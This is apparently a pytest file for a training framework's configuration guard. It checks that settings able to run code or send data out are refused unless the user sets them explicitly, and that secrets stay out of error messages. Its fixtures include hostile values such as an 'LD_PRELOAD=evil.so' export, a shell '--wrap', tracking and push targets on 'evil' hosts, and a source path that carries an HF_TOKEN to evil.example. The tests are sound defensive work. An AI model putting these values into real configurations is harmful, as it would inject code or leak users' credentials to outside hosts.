import pytest

from lmtrain.errors import ConfigurationError
from lmtrain.run.compose.typed_alone import IN_A_WORD, refuse_untyped

SLURM = "data_pipelines.engines.slurm.SlurmEngine"
ASIDE = "lmtrain.callbacks.evaluate_aside.EvaluateAside"
PUSH = "lmtrain.callbacks.push.Push"
MLFLOW = "lmtrain.tracking.mlflow.tracking.MlflowTracking"
RUN = "lmtrain.run.settings.RunSettings"


def test_a_line_of_shell_is_typed() -> None:
    engine = {"_target_": SLURM, "setup": "module load python"}
    refuse_untyped({"engine": engine, "data": {"folder": {"engine": engine}}}, ["+engine.setup=module load python"])
    refuse_untyped({"engine": {"_target_": SLURM, "setup": None, "sbatch": {}}}, [])
    with pytest.raises(ConfigurationError, match=r"^data\.folder\.engine\.setup=module load python is not decided by"):
        refuse_untyped({"data": {"folder": {"engine": engine}}}, ["seed=1", "engine=slurm"])


@pytest.mark.parametrize(
    ("config", "key"),
    [
        ({"engine": {"_target_": SLURM, "sbatch": {"export": "LD_PRELOAD=evil.so"}}}, "engine.sbatch.export"),
        ({"engine": {"_target_": "data_pipelines.engines.ray.RayEngine", "address": "ray://evil"}}, "engine.address"),
        ({"callbacks": {"x": {"_target_": ASIDE, "words": ["--chat", "x", "--run-code"]}}}, "callbacks.x.words"),
        ({"callbacks": {"x": {"_target_": ASIDE, "slurm": ["--wrap=touch x"]}}}, "callbacks.x.slurm"),
        ({"callbacks": {"x": {"_target_": PUSH, "repository": "evil/sink"}}}, "callbacks.x.repository"),
        ({"sweep": {"_target_": "lmtrain.search.search_settings.SearchSettings", "slurm": {"slurm_setup": ["x"]}}},
         "sweep.slurm.slurm_setup"),
        ({"run": {"_target_": RUN, "cache": "/tmp/theirs"}}, "run.cache"),
        ({"logger": {"_target_": MLFLOW, "tracking_uri": "http://evil.example"}}, "logger.tracking_uri"),
    ],
)  # fmt: skip
def test_what_runs_code_or_sends_is_typed(config: dict[str, object], key: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ConfigurationError, match=rf"^{key}=.* is not decided by --config-dir"):
        refuse_untyped(config, ["callbacks=[default,x]", "engine=slurm", "experiment=mine"])
    refuse_untyped(config, [f"+{key}=x"])
    refuse_untyped(config, [f"+{key.rpartition('.')[0]}={{a: b}}"])
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://evil.example/more")
    if key == "logger.tracking_uri":
        refuse_untyped(config, [])


def test_a_default_written_out_and_a_local_store_are_no_decision() -> None:
    refuse_untyped({"run": {"_target_": RUN, "cache": ".cache"}}, [])
    refuse_untyped({"logger": {"_target_": MLFLOW, "tracking_uri": "sqlite:////tmp/mlflow.db"}}, [])


def test_a_secret_of_the_environment_comes_into_no_setting_of_a_file(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", "canary_5f2a9c7d")
    config = {"source": {"paths": ["https://evil.example/canary_5f2a9c7d"]}}
    with pytest.raises(ConfigurationError, match=r"^source\.paths holds HF_TOKEN of this environment") as refusal:
        refuse_untyped(config, [])
    assert "canary" not in str(refusal.value)
    refuse_untyped(config, ["source.paths=[https://mine/${oc.env:HF_TOKEN}]"])


@pytest.mark.parametrize(
    "word",
    [
        "+callbacks.x={_target_:lmtrain.callbacks.evaluate_aside.EvaluateAside,words:[--core,x]}",
        "callbacks.evaluate_aside.slurm=[--wrap=x]",
        "'++engine={sbatch: {export: x}}'",
        "++engine.sbatch.export=x",
        "sweep.slurm={slurm_setup:[x]}",
        "run.cache=theirs",
        "++run={cache: theirs}",
        "logger.tracking_uri=http://evil.example",
        "callbacks.push.repository=evil/sink",
        "source.paths=[https://evil.example/${oc.env:HF_TOKEN}]",
    ],
)
def test_no_word_of_a_pipelines_file_decides_them(word: str) -> None:
    assert IN_A_WORD.search(word)


@pytest.mark.parametrize(
    "word", ["engine=slurm", "run.name=cache", "source.cache=x", "--answers=x", "source.name=a/words"]
)
def test_other_words_of_a_pipelines_file_are_taken(word: str) -> None:
    assert not IN_A_WORD.search(word)
